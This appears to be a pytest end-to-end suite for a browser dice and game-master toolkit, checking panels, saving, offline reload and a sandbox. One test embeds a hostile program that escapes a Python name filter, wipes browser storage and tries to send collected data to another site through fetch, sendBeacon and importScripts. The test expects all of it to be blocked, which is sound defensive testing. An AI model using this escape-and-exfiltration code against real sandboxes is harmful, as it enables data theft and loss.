"""An evening at the table in Firefox ESR and in WebKitGTK (Safari's engine), as in Chromium.

Per engine, one page boots from the snapshot and stays open through the tests below, in this
order: the first panel answers; each panel's main action works (roll, convert, threat draw, dice
odds, a check, an ITE chain, a FUDGE action, a character saved, a journal export); a reload keeps
what was saved; a lab program runs in its sandbox and reaches neither the saved data nor another
site; the page reloads offline from its service worker; the single saved file runs from disk.
After every test the page has logged no error and sent no request past 127.0.0.1 (conftest.py).
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from engines import BOOT_TIMEOUT_S, Driver, Engine

TOUCH = "document.dispatchEvent(new PointerEvent('pointerdown'))"
# Downloads are caught in the page: the file the app offers (kit/browser_dom.py's link.click()).
CATCH_DOWNLOADS = """(() => {
  window.gmDownloads = [];
  const click = HTMLAnchorElement.prototype.click;
  HTMLAnchorElement.prototype.click = function () {
    if (!this.download) return click.call(this);
    window.gmDownloads.push(fetch(this.href).then((r) => r.text()).then((text) => ({name: this.download, text})));
  };
  return true;
})()"""


def boot(driver: Driver, url: str) -> int:
    """Open ``url`` and wait until the panel on screen works; its ``data-interactive-ms``."""
    driver.goto(url)
    return int(driver.wait("document.documentElement.dataset.interactiveMs", BOOT_TIMEOUT_S, "interactive"))


def open_panel(driver: Driver, panel: str) -> None:
    """Open a panel by its tab, as a GM does, and wait until it is mounted."""
    driver.click(f"nav.tabs a[href='#{panel}']")
    driver.wait(
        f"!!document.querySelector('#{panel}[data-mounted=\"true\"]')", BOOT_TIMEOUT_S, f"{panel} mounted"
    )


def saved(driver: Driver, key: str) -> dict | None:
    raw = driver.js(f"gmStorage.get({json.dumps(key)})")
    return None if raw is None else json.loads(raw)


@pytest.fixture(scope="module")
def app(engine: Engine) -> Driver:
    """The engine's page, booted once for the whole suite."""
    engine.facts["interactive_ms_cold"] = boot(engine.driver, engine.site.url + "index.html?seed=20261129")
    return engine.driver


def test_starts_from_the_snapshot_and_the_first_panel_answers(app: Driver) -> None:
    assert app.js("document.documentElement.dataset.pythonBoot") == "snapshot"
    app.click("#gauss-roll")
    assert "GaussD20" in app.wait_text("#gauss-result", "GaussD20")
    faces = [int(app.text(f"#gauss-die-{i}")) for i in range(3)]
    assert int(app.text("#gauss-value")) == round(sum(faces) / 3)
    # The other panels mount in idle time after a first touch (a fallback where requestIdleCallback
    # is missing, as in Safari).
    app.js(TOUCH)
    app.wait("document.documentElement.dataset.ready === 'true'", BOOT_TIMEOUT_S, "every panel mounted")


def test_converter_converts_the_example(app: Driver) -> None:
    open_panel(app, "converter")
    app.click("#convert-example")
    app.click("#convert-run")
    app.wait_text("#convert-summary", "Конвертировано бросков")


def test_threat_draw(app: Driver) -> None:
    open_panel(app, "threat")
    app.click("#threat-check")
    app.wait("/Событие угрозы!|Без события/.test(document.querySelector('#threat-result').textContent)")


def test_dice_odds_from_the_compute_worker(app: Driver) -> None:
    open_panel(app, "notation")
    app.fill("#notation-expr", "8d10!")
    asked = app.js("gmCompute.asked()")
    app.click("#notation-odds")
    assert app.js("gmCompute.asked()") == asked + 1  # heavy odds went to the module worker
    app.wait_text("#notation-dist-status", "Распределение 8d10!", timeout=BOOT_TIMEOUT_S)


def test_a_skill_check(app: Driver) -> None:
    open_panel(app, "checks")
    app.click("#chk-skill-roll")
    app.wait("document.querySelectorAll('#chk-log li').length === 1")
    assert app.text("#chk-skill-odds tr.row-hit")


def test_an_ite_chain(app: Driver) -> None:
    open_panel(app, "ite")
    app.click("#ite-roll")
    app.wait("document.querySelectorAll('#ite-log li').length === 1")
    assert app.text("#ite-result")


def test_a_fudge_action(app: Driver) -> None:
    open_panel(app, "fudge")
    app.click("#fudge-act-roll")
    app.wait("document.querySelectorAll('#fudge-act-chart .bar-hit').length === 1")


def test_a_character_is_saved(app: Driver) -> None:
    open_panel(app, "roster")
    app.fill("#roster-name", "Борис")
    app.select("#roster-system", "gauss")
    app.fill("#roster-g-luck", "7")
    app.fill("#roster-g-skills", "Фехтование: 8")
    app.click("#roster-save")
    app.wait("document.querySelectorAll('#roster-list li').length === 1")
    app.wait("gmStorage.get('gm.shared.roster').then((raw) => raw && raw.includes('Борис'))")
    assert [e["name"] for e in (saved(app, "gm.shared.roster") or {})["value"]["entries"]] == ["Борис"]


def test_the_journal_exports_the_evening(app: Driver, engine: Engine) -> None:
    open_panel(app, "journal")
    entries = app.count("#journal-list li")
    assert entries >= 6  # a roll, a conversion, a threat check, a check, an ITE chain, a FUDGE action
    assert app.js(CATCH_DOWNLOADS)
    app.click("#journal-export-markdown")
    app.wait("window.gmDownloads.length === 1")
    [export] = app.js("Promise.all(window.gmDownloads)")
    assert export["name"].endswith(".md")
    assert "GaussD20" in export["text"] and "ITE" in export["text"]
    engine.facts["journal_entries"] = entries


def test_a_reload_keeps_what_was_saved(app: Driver, engine: Engine) -> None:
    entries = app.count("#journal-list li")
    app.reload()
    app.wait("document.documentElement.dataset.interactiveMs", BOOT_TIMEOUT_S, "interactive after a reload")
    # Before Python was up, no control that waits for it was enabled (Firefox restores a button's
    # disabled state on a reload; a tap then would be lost).
    assert app.js("window.gmEnabledEarly") == []
    assert app.js("location.hash") == "#journal"
    app.wait("!!document.querySelector('#journal[data-mounted=\"true\"]')", BOOT_TIMEOUT_S)
    app.wait(f"document.querySelectorAll('#journal-list li').length === {entries}")
    open_panel(app, "roster")
    app.wait_text("#roster-list", "Борис")
    engine.facts["interactive_ms_reload"] = int(app.js("document.documentElement.dataset.interactiveMs"))


class OtherSite(BaseHTTPRequestHandler):
    """Another site on loopback: records whatever reaches it."""

    heard: ClassVar[list[str]] = []

    def _record(self) -> None:
        OtherSite.heard.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_OPTIONS = _record

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def other_site() -> Iterator[str]:
    OtherSite.heard = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), OtherSite)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


# Out of Python's name filter through a module's sys (tests/e2e/test_program_isolation.py has more
# roads), then at the page's storage and at another site by every means a worker has.
PROGRAM = """
import dataclasses
real = dataclasses.sys.modules["builtins"]
js = real.getattr(real, "__import__")("js")
seen = []
for attempt in (
    lambda: seen.append("ls=" + str(js.localStorage.length)),
    lambda: seen.append("idb=" + str(js.indexedDB.open("gm-dice"))),
    lambda: js.indexedDB.deleteDatabase("gm-dice"),
    lambda: js.localStorage.clear(),
    lambda: js.fetch(OTHER + "/fetch?seen=" + ",".join(seen)),
    lambda: js.Reflect.apply(js.WorkerGlobalScope.prototype.fetch, js.self, [OTHER + "/real"]),
    lambda: js.navigator.sendBeacon(OTHER + "/beacon", "x"),
    lambda: js.importScripts(OTHER + "/script.js"),
):
    try:
        attempt()
    except Exception:
        pass
output(d6, "boxed in")
"""
# What a refused attempt logs in a sandbox (CSP, a failed fetch); anything else is a fault.
REFUSALS = (
    "Content Security Policy",
    "Content-Security-Policy",
    "CSP ",
    "Failed to fetch",
    "NetworkError",
    "Refused to",
    "Load failed",
)


def test_a_lab_program_runs_boxed_in(app: Driver, other_site: str) -> None:
    open_panel(app, "notation")
    roster = saved(app, "gm.shared.roster")
    app.fill("#lab-program", f"OTHER = {other_site!r}\n{PROGRAM}")
    app.click("#lab-program-run")
    app.wait_text("#lab-stats", "boxed in", timeout=BOOT_TIMEOUT_S)
    app.js("new Promise((done) => setTimeout(done, 1000))")  # what it scheduled has had its time
    assert OtherSite.heard == []
    assert saved(app, "gm.shared.roster") == roster
    problems = app.take_problems()
    assert [p for p in problems if not any(r in p for r in REFUSALS)] == []


def test_an_offline_reload_starts_from_the_service_worker(app: Driver, engine: Engine) -> None:
    if not app.js("'serviceWorker' in navigator"):
        pytest.skip(f"{engine.name} has no service worker: the page works online only")
    # The worker takes control once it has installed, that is once it has cached the whole build.
    app.wait(
        "navigator.serviceWorker.controller !== null", BOOT_TIMEOUT_S, "the service worker controls the page"
    )
    engine.site.stop()
    try:
        app.reload()
        app.wait("document.documentElement.dataset.interactiveMs", BOOT_TIMEOUT_S, "interactive offline")
        assert app.js("document.documentElement.dataset.pythonBoot") == "snapshot"
        open_panel(app, "roller")
        before = app.count("#gauss-log li")
        app.click("#gauss-roll")
        app.wait(f"document.querySelectorAll('#gauss-log li').length === {before + 1}")
    finally:
        engine.site.start()


def test_the_single_saved_file_runs_from_disk(app: Driver, engine: Engine, saved_file: Path) -> None:
    # Pages opened from disk share one storage (the last tab a GM opened there reopens): the roller.
    engine.facts["interactive_ms_file"] = boot(app, saved_file.as_uri() + "?seed=3#roller")
    app.click("#gauss-roll")
    app.wait_text("#gauss-result", "GaussD20")
    app.js(TOUCH)
    open_panel(app, "converter")
    app.click("#convert-example")
    app.click("#convert-run")
    app.wait_text("#convert-summary", "Конвертировано бросков")
